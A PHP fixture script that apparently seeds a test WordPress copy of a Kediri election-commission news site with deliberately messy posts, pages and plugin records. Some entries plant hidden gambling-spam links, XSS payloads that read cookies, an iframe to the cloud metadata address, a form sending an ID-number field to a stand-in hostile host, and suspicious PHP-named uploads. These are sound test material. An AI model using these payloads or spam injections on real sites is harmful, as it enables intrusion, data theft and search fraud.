<?php
// Entry by entry, each with the dirt it is there for.

$apel = upload('2014/03/apel-pagi.jpg', 'image/jpeg', ['alt' => 'Pegawai berbaris di halaman kantor', 'caption' => 'Apel pagi di halaman kantor. Foto: Humas']);
$rapat = upload('2015/06/IMG_20150611_0931.jpg', 'image/jpeg');
$pilkada = upload('2015/12/tps-7-pare.jpg', 'image/jpeg', ['caption' => 'Suasana TPS 7 <em>Kecamatan Pare</em>']);
$sk = upload('2018/08/SK-Nomor-21-Tahun-2018.pdf', 'application/pdf', ['title' => 'SK Nomor 21 Tahun 2018', 'description' => 'Keputusan tentang penetapan jadwal.']);
$formulir = upload('2019/02/formulir permohonan (final) REV2.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
upload('2017/01/logo.php.jpg', 'image/jpeg', ['title' => 'logo.php']);
upload('2017/01/wp-tmp.php', 'application/octet-stream', ['title' => 'wp-tmp']);
upload('2016/05/video-sosialisasi.mp4', 'video/mp4');

$penetapan = put(
    'Penetapan Jumlah Kursi DPRD Kabupaten Kediri',
    "[caption id=\"attachment_$apel\" align=\"aligncenter\" width=\"600\"]<a href=\"$uploads/2014/03/apel-pagi.jpg\"><img class=\"wp-image-$apel size-large\" src=\"$uploads/2014/03/apel-pagi-1024x683.jpg\" alt=\"\" width=\"600\" height=\"400\" /></a> Apel pagi sebelum rapat dimulai (Foto: Humas)[/caption]

<strong>Kediri, kpu-kedirikab.go.id</strong> – Rapat pleno terbuka yang digelar Selasa pagi menetapkan lima puluh kursi untuk enam daerah pemilihan. Perwakilan semua partai hadir dan menandatangani berita acara.

Ketua mengatakan jumlah itu mengikuti data kependudukan semester pertama. \"Tidak ada perubahan dari usulan semula,\" katanya.

Baca juga: <a href=\"http://www.kpu-kedirikab.go.id/?p=1\">Jadwal rapat pleno</a>

Penulis: Rina
Editor: Bagus
Foto: Humas",
    ['lead' => $apel, 'tags' => ['pleno', 'DPRD'], 'author' => 'rina', 'slug' => 'penetapan-jumlah-kursi', 'meta' => ['_wp_old_slug' => 'penetapan-kursi-dprd', '_edit_last' => '2', '_yoast_wpseo_title' => 'Kursi DPRD']]
);
put(
    'RAPAT KOORDINASI PEMUTAKHIRAN DATA PEMILIH BERKELANJUTAN BERSAMA DISPENDUKCAPIL',
    "<p style=\"text-align: justify;\">Kediri, kab-kediri.kpu.go.id - Data pemilih yang berubah alamat dibahas bersama dinas kependudukan di aula lantai dua. Ada 1.204 nama yang harus diperiksa ulang.</p>\r\n<p style=\"text-align: justify;\">Lihat <a href=\"/2014/01/penetapan-jumlah-kursi/\">berita sebelumnya</a> dan <a href=\"https://kpu-kedirikab.go.id/?p=$penetapan#isi\">keputusannya</a>.</p>\r\n<p style=\"text-align: right;\"><em>(pnj)</em></p>",
    ['tags' => ['DPB', 'Dispendukcapil']]
);
put(
    'Galeri: Simulasi pemungutan suara',
    "Kediri (11/6/2015) – Simulasi diikuti dua ratus warga.\n\n[gallery columns=\"2\" link=\"file\" ids=\"$rapat,$pilkada,$apel\"]\n\n[gallery]\n\nTeks: Rina | Foto: Bagus",
    ['lead' => $rapat, 'categories' => ['kegiatan-sosialisasi']]
);
put(
    'Bimbingan teknis petugas ad hoc digelar tiga hari',
    "<!-- wp:paragraph {\"align\":\"left\"} -->\n<p class=\"has-text-align-left\"><strong>Kediri, Jawa Timur</strong> — Bimbingan teknis bagi petugas pemungutan dibuka Senin.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:image {\"id\":$pilkada,\"sizeSlug\":\"large\"} -->\n<figure class=\"wp-block-image size-large\"><img src=\"$uploads/2015/12/tps-7-pare-1024x683.jpg\" alt=\"Petugas menunjukkan surat suara\" class=\"wp-image-$pilkada\"/><figcaption>Petugas berlatih membuka kotak suara</figcaption></figure>\n<!-- /wp:image -->\n\n<!-- wp:heading -->\n<h2>Materi</h2>\n<!-- /wp:heading -->\n\n<!-- wp:list -->\n<ul><li>Pemungutan<ul><li>Persiapan TPS</li></ul></li><li>Penghitungan</li></ul>\n<!-- /wp:list -->\n\n<!-- wp:table -->\n<figure class=\"wp-block-table\"><table><thead><tr><th>Hari</th><th>Peserta</th></tr></thead><tbody><tr><td>Senin</td><td>240</td></tr><tr><td>Selasa</td><td>236</td></tr></tbody></table><figcaption>Kehadiran</figcaption></figure>\n<!-- /wp:table -->\n\n<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\"><p>Periksa dua kali, tulis satu kali.</p><cite>Ketua</cite></blockquote>\n<!-- /wp:quote -->\n\n<!-- wp:gallery {\"ids\":[$apel,$rapat]} -->\n<figure class=\"wp-block-gallery\"><ul class=\"blocks-gallery-grid\"><li class=\"blocks-gallery-item\"><figure><img src=\"$uploads/2014/03/apel-pagi.jpg\" alt=\"\"/></figure></li></ul></figure>\n<!-- /wp:gallery -->\n\n<!-- wp:file {\"id\":$sk,\"href\":\"$uploads/2018/08/SK-Nomor-21-Tahun-2018.pdf\"} -->\n<div class=\"wp-block-file\"><a href=\"$uploads/2018/08/SK-Nomor-21-Tahun-2018.pdf\">SK Nomor 21</a><a href=\"$uploads/2018/08/SK-Nomor-21-Tahun-2018.pdf\" class=\"wp-block-file__button\" download>Unduh</a></div>\n<!-- /wp:file -->\n\n<!-- wp:embed {\"url\":\"https://www.youtube.com/watch?v=abcdefghijk\",\"type\":\"video\"} -->\n<figure class=\"wp-block-embed\"><div class=\"wp-block-embed__wrapper\">\nhttps://www.youtube.com/watch?v=abcdefghijk\n</div></figure>\n<!-- /wp:embed -->\n\n<!-- wp:block {\"ref\":9999} /-->\n\n<!-- wp:paragraph -->\n<p>Penulis/Editor: Rina Lestari</p>\n<!-- /wp:paragraph -->",
    ['lead' => $pilkada, 'date' => '2021-06-14 07:05:00', 'excerpt' => 'Tiga hari, 476 peserta.']
);
put(
    'Kunjungan kerja ke kantor kecamatan',
    "<p class=\"MsoNormal\" style=\"margin-bottom:0cm;line-height:150%;mso-pagination:widow-orphan\"><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--><span lang=\"IN\" style=\"font-family:&quot;Times New Roman&quot;,&quot;serif&quot;;mso-ansi-language:IN\">Kunjungan kerja berlangsung di tiga kecamatan.<o:p></o:p></span></p>\n<p class=\"MsoListParagraph\" style=\"text-indent:-18pt;mso-list:l0 level1 lfo1\"><!--[if !supportLists]--><span>1.<span style=\"font:7.0pt\">&nbsp;&nbsp;&nbsp;</span></span><!--[endif]-->Memeriksa gudang logistik</p>\n<p class=\"MsoListParagraph\"><!--[if !supportLists]-->2.&nbsp;&nbsp;<!--[endif]-->Menemui camat</p>\n<font color=\"#ff0000\" size=\"5\"><b><b>Penting:</b></b></font> gudang harus kering.<br><br><br>\nPewarta : Dwi\nRed. : Bagus",
    ['categories' => ['kegiatan-sosialisasi']]
);
put(
    'Sosialisasi di pondok pesantren',
    'KEDIRI – ' . implode(' ', array_map(fn($n) => "Pada sesi ke-$n peserta menanyakan cara pindah memilih dan petugas menjawabnya dengan contoh. Narasumber menutup sesi itu dengan kuis berhadiah kaus.", range(1, 24))) . ' (hms/pnj)'
);
put('Halaman "lama" dengan waktu nol', 'Tulisan ini pindahan dari sistem yang lebih tua; tanggalnya hilang. ***', ['slug' => 'waktu-nol']);
put('Waktu UTC nol', 'Hanya waktu dindingnya yang tersisa.', ['slug' => 'utc-nol', 'date' => '2013-08-17 10:00:00']);
$wpdb->query("update {$wpdb->posts} set post_date='0000-00-00 00:00:00', post_date_gmt='0000-00-00 00:00:00', post_modified='0000-00-00 00:00:00', post_modified_gmt='0000-00-00 00:00:00' where post_name='waktu-nol'");
$wpdb->query("update {$wpdb->posts} set post_date_gmt='0000-00-00 00:00:00' where post_name='utc-nol'");

// Break-ins: what visitors do not see and search engines do.
put('Jalan sehat menyambut pemilu', 'Ribuan warga ikut jalan sehat.<div style="position:absolute;left:-9999px"><a href="https://slot-gacor-maxwin.example/">slot gacor hari ini</a> <a href="https://togel.example/">togel</a></div> Hadiah utama sebuah sepeda.');
put('Penyerahan alat peraga', '<p>Alat peraga diserahkan kepada panitia kecamatan.</p><span style="font-size:0;color:#fff"><a href="https://rtp-zeus.example">rtp live zeus</a></span><noscript><a href="https://sl0t.example">sl0t88</a></noscript><a href="https://judi.example" style="display:none">judi online terpercaya</a>');
put('Situs Slot Gacor Maxwin Hari Ini', '<p>Daftar situs slot gacor terpercaya, rtp 98%, deposit pulsa tanpa potongan. <a href="https://slot88.example/daftar">DAFTAR</a></p>', ['slug' => 'slot-gacor-maxwin', 'author' => 'operator2', 'date' => '2023-02-11 02:14:09']);
put('Waspada bahaya judi online', 'Kediri - Sekretariat mengingatkan pegawai akan bahaya judi online. Slot waktu kampanye juga dibahas.', ['tags' => ['imbauan']]);

// States.
put('Rancangan pengumuman seleksi', 'Belum selesai ditulis.', ['status' => 'draft']);
put('Menunggu disunting', 'Tulisan kontributor.', ['status' => 'pending', 'author' => 'operator2']);
put('Catatan rapat tertutup', 'Hanya untuk pegawai.', ['status' => 'private']);
put('Pengumuman yang dijadwalkan', 'Terbit nanti.', ['status' => 'future', 'date' => '2031-01-02 08:00:00']);
put('Dibuang ke tempat sampah', 'Tidak dipakai lagi.', ['status' => 'trash']);
put('Dokumen berkata sandi', 'Isi yang dikunci.', ['password' => 'rahasia2019']);
put('', 'Tulisan tanpa judul, hanya isi.', ['slug' => 'tanpa-judul']);
put('Hanya gambar unggulan', '', ['lead' => $rapat]);

// Texts as they come.
put('Sambutan Ketua &amp; Sekretaris &#8211; “HUT ke-72”', "Kata â€œPemiluâ€ dan Sekretarisâ€™ rusak karena dua kali disandikan.\n\nTanda \x0bkendali \x02dari Word.", ['slug' => 'sambutan']);
put('Skrip penghitung kunjungan', "Statistik situs.\n<script type=\"text/javascript\">//<![CDATA[\nvar a = 1 && 2;\n//]]></script>\nSesudah skrip.");
put('Uji keamanan isi', '<p onclick="alert(1)">Klik</p><a href="javascript:alert(document.cookie)">tautan</a><img src="x" onerror="alert(2)"><svg onload="alert(3)"><iframe src="http://169.254.169.254/latest/meta-data/"></iframe><object data="http://127.0.0.1/a.swf"></object><img src="data:image/png;base64,iVBORw0KGgo="><form action="http://jahat.example"><input name="nik"></form>');
put('Video dan formulir', "[embed]https://www.youtube.com/watch?v=abcdefghijk[/embed]\n\nhttps://youtu.be/abcdefghijk\n\n[video mp4=\"$uploads/2016/05/video-sosialisasi.mp4\"][/video]\n\n[contact-form-7 id=\"12\" title=\"Kontak\"]\n\n[vc_row][vc_column width=\"1/2\"][vc_column_text]Isi di dalam kolom.[/vc_column_text][/vc_column][/vc_row]\n\n[audio src=\"http://lain.example/a.mp3\"]\n\n<iframe src=\"https://www.google.com/maps/embed?pb=1\" width=\"600\"></iframe>");
put('Rekapitulasi suara per kecamatan', '<table border="1" style="width:100%"><tbody><tr><td rowspan="2"><b>Kecamatan</b></td><td colspan="2">Suara</td></tr><tr><td>Sah</td><td>Tidak sah</td></tr><tr><td>Pare</td><td>54.210</td><td>1.022</td></tr><tr><td>Gurah</td><td>41.087</td><td>918</td></tr></tbody></table><p>Unduh <a href="' . $uploads . '/2018/08/SK-Nomor-21-Tahun-2018.pdf">SK lengkap</a> dan <a href="' . $uploads . '/2019/02/formulir permohonan (final) REV2.docx">formulir</a>.</p>', ['categories' => ['sk-pengumuman'], 'tags' => ['rekapitulasi', 'pilkada 2015'], 'date' => '2015-12-17 16:40:00']);
put('Daftar nama petugas terpilih', "Petugas terpilih:\n\n1. Slamet (NIK 3506011708750001, HP 0812-0000-1234)\n2. Siti (NIK 3506014101800002, HP 0813-0000-5678)\n\nHarap hadir tepat waktu.");
put('Tulisan panjang bersambung', "Bagian pembuka.\n\n<!--more-->\n\nBagian pertama.\n\n<!--nextpage-->\n\nBagian kedua.");
foreach ([1, 2] as $time) {
    put('Pengumuman hasil seleksi administrasi', 'Kediri, kpu-kedirikab.go.id | Nama yang lulus seleksi administrasi dapat dilihat di papan pengumuman kantor dan pada lampiran di bawah ini.', ['categories' => ['sk-pengumuman']]);
}
put('Sugeng rawuh ing kantor', '<p lang="jv">Sugeng rawuh. Mangga mriksani asma panjenengan ing dhaptar pamilih.</p>');
put('Penulis yang sudah tidak ada', 'Akun penulisnya telah dihapus.', ['author' => 'tidak-ada']);
put('Nama berkas العربية dan 🗳️', 'Judul dengan huruf lain.', ['slug' => 'العربية']);

// Pages.
$profil = put('Profil', '', ['type' => 'page', 'slug' => 'profil', 'order' => 1]);
put('Visi dan Misi', '<h1>VISI</h1><p>Penyelenggara yang mandiri.</p><h1>MISI</h1><ol type="a"><li>Melayani pemilih</li><li>Menjaga data</li></ol>', ['type' => 'page', 'parent' => $profil, 'order' => 2]);
$struktur = put('Struktur Organisasi', "<img src=\"/wp-content/uploads/2014/03/apel-pagi.jpg\" alt=\"Bagan\">", ['type' => 'page', 'parent' => $profil, 'order' => 3]);
put('Sekretariat', 'Empat subbagian.', ['type' => 'page', 'parent' => $struktur]);
put('PPID', "[su_button url=\"$host/formulir\"]Ajukan permohonan[/su_button]\nJam layanan 08.00–15.00 WIB.", ['type' => 'page', 'slug' => 'ppid']);
put('Profile in English', '<p lang="en">The election commission of Kediri.</p>', ['type' => 'page', 'parent' => $profil, 'slug' => 'en']);

// Types of plugins.
put('Pengumuman Nomor 45 Tahun 2020', "Nomor 45/PP.04/2020 tentang rekrutmen.\n\n<a href=\"$uploads/2018/08/SK-Nomor-21-Tahun-2018.pdf\">Lampiran</a>", ['type' => 'pengumuman', 'slug' => 'pengumuman-45']);
put('Rapat Pleno Terbuka', 'Undangan untuk media.', ['type' => 'tribe_events', 'slug' => 'rapat-pleno', 'meta' => ['_EventStartDate' => '2020-09-24 09:00:00', '_EventEndDate' => '2020-09-24 12:00:00', '_EventVenueID' => '0', '_EventVenue' => 'Aula lantai 2']]);
put('Jalan Sehat', 'Titik kumpul alun-alun.', ['type' => 'agenda', 'slug' => 'jalan-sehat', 'meta' => ['tanggal_mulai' => '20191013', 'lokasi' => 'Alun-alun Pare']]);
$dpt = put('SK Penetapan DPT', 'Salinan keputusan.', ['type' => 'dlm_download', 'slug' => 'sk-dpt']);
put('Versi 1', '', ['type' => 'dlm_download_version', 'parent' => $dpt, 'meta' => ['_files' => json_encode(["$uploads/dlm_uploads/2019/04/sk-dpt.pdf"])]]);
put('Kontak', '<label>Nama [text* nama]</label>', ['type' => 'wpcf7_contact_form']);
put('Blok berulang', '<!-- wp:paragraph --><p>Alamat kantor.</p><!-- /wp:paragraph -->', ['type' => 'wp_block']);
wp_update_custom_css_post('body { background: url(//jahat.example/x.png) }', ['stylesheet' => 'old']);
$menu = wp_create_nav_menu('Menu utama');
wp_update_nav_menu_item($menu, 0, ['menu-item-title' => 'Profil', 'menu-item-object' => 'page', 'menu-item-object-id' => $profil, 'menu-item-type' => 'post_type', 'menu-item-status' => 'publish']);

foreach (['Terima kasih infonya', 'slot gacor <a href="https://spam.example">klik</a>', 'Kapan pengumumannya?'] as $words) {
    wp_insert_comment(['comment_post_ID' => $penetapan, 'comment_author' => 'Warga', 'comment_author_email' => 'warga@surel.example', 'comment_author_IP' => '192.0.2.7', 'comment_content' => $words, 'comment_approved' => 1]);
}
